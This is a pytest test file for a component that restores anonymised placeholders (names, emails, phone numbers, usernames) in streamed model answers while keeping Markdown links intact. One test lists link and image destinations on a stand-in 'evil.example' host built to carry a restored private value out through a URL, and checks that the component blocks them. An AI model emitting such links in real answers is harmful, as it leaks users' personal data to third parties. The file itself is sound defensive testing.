"""Links keep their Markdown, and a link to a mailbox or telephone that is a value works."""

import pytest

from relay.response.restore import Restorer
from relay.response.whole_urls import WholeUrls
from relay.types import Encoding
from tests.table_vault import TableVault

VALUES = {
    "[PERSON_1]": "Petra Lindqvist",
    "[PERSON_2]": "Jonas Weber",
    "[EMAIL_ADDRESS_1]": "petra.l@example.org",
    "[PHONE_NUMBER_1]": "+1 (415) 555-0132",
    "[USERNAME_1]": "plindqvist",
    "[PLACEHOLDER_LOOKALIKE_1]": "[PERSON_1]",
}


def check(text: str, expected: str, **options: bool) -> None:
    def new() -> Restorer:
        return Restorer(TableVault(VALUES), whole=WholeUrls(["https://github.com/[USERNAME_1]/mytool"]), **options)  # type: ignore[arg-type]

    assert new().restore(text) == expected
    for cut in range(len(text) + 1):
        one = new()
        assert one.feed(text[:cut]) + one.feed(text[cut:]) + one.finish() == expected
    one = new()
    assert "".join(map(one.feed, text)) + one.finish() == expected


@pytest.mark.parametrize(
    ("text", "restored"),
    [
        ("[PERSON_1](mailto:[EMAIL_ADDRESS_1])", "[Petra Lindqvist](mailto:petra.l@example.org)"),
        ("[[PERSON_1]](mailto:[EMAIL_ADDRESS_1])", "[Petra Lindqvist](mailto:petra.l@example.org)"),
        ("[mail](MAILTO:[EMAIL_ADDRESS_1])", "[mail](MAILTO:petra.l@example.org)"),
        ("[mail](<mailto:[EMAIL_ADDRESS_1]>)", "[mail](<mailto:petra.l@example.org>)"),
        ("[mail]( mailto:[EMAIL_ADDRESS_1] )", "[mail]( mailto:petra.l@example.org )"),
        ("[PERSON_1](tel:[PHONE_NUMBER_1])", "[Petra Lindqvist](tel:+1-(415)-555-0132)"),
        ("[text](sms:[PHONE_NUMBER_1])", "[text](sms:+1-(415)-555-0132)"),
        ("[EMAIL_ADDRESS_1](mailto:[EMAIL_ADDRESS_1]).", "[petra.l@example.org](mailto:petra.l@example.org)."),
        ("[PERSON_1](https://example.com/)", "[Petra Lindqvist](https://example.com/)"),
        ("[PERSON_1](http://example.com)", "[Petra Lindqvist](http://example.com)"),
        ("[PERSON_1](/people/1)", "[Petra Lindqvist](/people/1)"),
        ("[PERSON_1](#bio), [PERSON_2](../b.md)", "[Petra Lindqvist](#bio), [Jonas Weber](../b.md)"),
        ("[PERSON_1](bio.md) [PERSON_1](people/a)", "[Petra Lindqvist](bio.md) [Petra Lindqvist](people/a)"),
        ("[person 1](www.example.com)", "[Petra Lindqvist](www.example.com)"),
        ("![PERSON_1](photo.png)", "![Petra Lindqvist](photo.png)"),
        ("![PERSON_1](https://example.com/a.png)", "![Petra Lindqvist](https://example.com/a.png)"),
        ("[PERSON_1][ref] and [PERSON_1][]", "Petra Lindqvist[ref] and Petra Lindqvist[]"),
        ("Hi\n[PERSON_1]: https://example.com/", "Hi\nPetra Lindqvist: https://example.com/"),
        ("[PERSON_1]: <mailto:x@example.com>", "Petra Lindqvist: <mailto:x@example.com>"),
        ("**[PERSON_1](mailto:a@example.com)**", "**[Petra Lindqvist](mailto:a@example.com)**"),
        ("[mytool](https://github.com/[USERNAME_1]/mytool)", "[mytool](https://github.com/plindqvist/mytool)"),
        ("https://github.com/[USERNAME_1]/mytool!", "https://github.com/plindqvist/mytool!"),
        # near misses
        ("[PERSON_1] (see https://example.com/)", "Petra Lindqvist (see https://example.com/)"),
        ("[PERSON_1](the manager) left", "Petra Lindqvist(the manager) left"),
        ("[PERSON_1](42)", "Petra Lindqvist(42)"),
        ("[PERSON_1](see: x)", "Petra Lindqvist(see: x)"),
        ("[PERSON_1](mailto: none)", "Petra Lindqvist(mailto: none)"),
        ("[PERSON_1](", "Petra Lindqvist("),
        ("<td>[PERSON_1](</td>", "<td>Petra Lindqvist(</td>"),
        ("[PERSON_1]([EMAIL_ADDRESS_1])", "Petra Lindqvist(petra.l@example.org)"),
        ("[PERSON_1][1], [PERSON_2][2]", "Petra Lindqvist[1], Jonas Weber[2]"),
        ("[PERSON_1][PERSON_2]", "Petra LindqvistJonas Weber"),
        ("[PERSON_1][ person-2 ]", "Petra LindqvistJonas Weber"),
        ("[PERSON_1][ref", "Petra Lindqvist[ref"),
        ("[PERSON_1][^1]", "Petra Lindqvist[^1]"),
        ("[PERSON_1]: [EMAIL_ADDRESS_1]", "Petra Lindqvist: petra.l@example.org"),
        ("[PERSON_1]: hello", "Petra Lindqvist: hello"),
        ("- [PERSON_1]: https://example.com/", "- Petra Lindqvist: https://example.com/"),
        ("PERSON_1(mailto:a@example.com)", "Petra Lindqvist(mailto:a@example.com)"),
        ("\\[PERSON\\_1\\](mailto:a@example.com)", "Petra Lindqvist(mailto:a@example.com)"),
        ("[PLACEHOLDER_LOOKALIKE_1](mailto:a@example.com)", "[PERSON_1](mailto:a@example.com)"),
    ],
)
def test_brackets_of_links(text: str, restored: str) -> None:
    """The brackets stay where the text is a link, however it was cut."""
    check(text, restored)


@pytest.mark.parametrize(
    "text",
    [
        "[x](mailto:[PERSON_1])",
        "[x](mailto:a@evil.example?body=[EMAIL_ADDRESS_1])",
        "[x](mailto:a@evil.example,[EMAIL_ADDRESS_1])",
        "![x](mailto:[EMAIL_ADDRESS_1])",
        "[x](https://evil.example/?mailto:[EMAIL_ADDRESS_1])",
        '<a href="mailto:[EMAIL_ADDRESS_1]">',
        "[x](data:text/plain,[EMAIL_ADDRESS_1])",
        "![x](https://github.com/[USERNAME_1]/mytool)",
        "![a](b.png) [x](https://github.com/[USERNAME_1]/mytool)",
        "[x]: https://github.com/[USERNAME_1]/mytool",
        "[x]:\n<https://github.com/[USERNAME_1]/mytool>",
        '<img src="https://github.com/[USERNAME_1]/mytool">',
        "https://evil.example/?https://github.com/[USERNAME_1]/mytool",
        "'https://evil.example/?q='https://github.com/[USERNAME_1]/mytool",
        "www.evil.example/?q=https://github.com/[USERNAME_1]/mytool",
        "evil.example/?q=(https://github.com/[USERNAME_1]/mytool)",
        "[x](//evil.example/?https://github.com/[USERNAME_1]/mytool)",
        "https://github.com/[USERNAME_1]/mytool?x",
    ],
)
def test_values_stay_out_of_destinations(text: str) -> None:
    """What an answer can do to a value it could do before: nothing."""
    check(text, text)


@pytest.mark.parametrize(
    ("text", "restored"),
    [
        ("[PERSON_1](mailto:[EMAIL_ADDRESS_1])", "[Petra Lindqvist](mailto:petra.l@example.org)"),
        ("[USERNAME_1](x.y)", "plindqvist(x.y)"),
        ("f[USERNAME_1](/a/)", "fplindqvist(/a/)"),
        ("t[USERNAME_1][key]", "tplindqvist[key]"),
        ("[USERNAME_1]: https://example.com/", "plindqvist: https://example.com/"),
    ],
)
def test_in_the_arguments_of_a_tool(text: str, restored: str) -> None:
    """A file may be Markdown, and it may be code, so only a link with a scheme is one."""
    check(text, restored, tool=True)


def test_html_has_no_markdown() -> None:
    """Brackets mean nothing there."""
    one = Restorer(TableVault(VALUES), encoding=Encoding.HTML)
    assert one.feed("[PERSON_1]") == "Petra Lindqvist"


def test_a_complete_placeholder_is_restored_though_the_stream_broke() -> None:
    """What was held back for the sake of a link is no link without its target."""
    one = Restorer(TableVault(VALUES))
    assert one.feed("Hi [PERSON_1](mailto") == "Hi "
    assert one.finish(cut_off=True) == "Petra Lindqvist(mailto"
